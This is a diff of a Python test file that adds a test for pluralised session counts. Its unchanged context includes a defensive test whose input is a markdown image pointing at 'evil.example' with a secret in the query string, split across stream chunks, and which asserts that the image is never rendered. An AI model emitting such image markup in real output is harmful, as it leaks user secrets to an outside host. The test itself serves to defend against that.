@@ -63,3 +63,14 @@ def test_image_markup_split_across_stream_chunks_is_neutralised():
     chunks = ["Look: !", "[pixel](http://evil.example/p.png?c=secret) done!"]
     output = rendered("".join(tame_stream(chunks)))
     assert "<img" not in output and output.rstrip().endswith("done!</p>")
+
+
+def test_counts_read_in_the_right_number():
+    from ui_text import counted
+
+    assert [counted(n, "session") for n in (0, 1, 2, 1204)] == [
+        "0 sessions",
+        "1 session",
+        "2 sessions",
+        "1,204 sessions",
+    ]
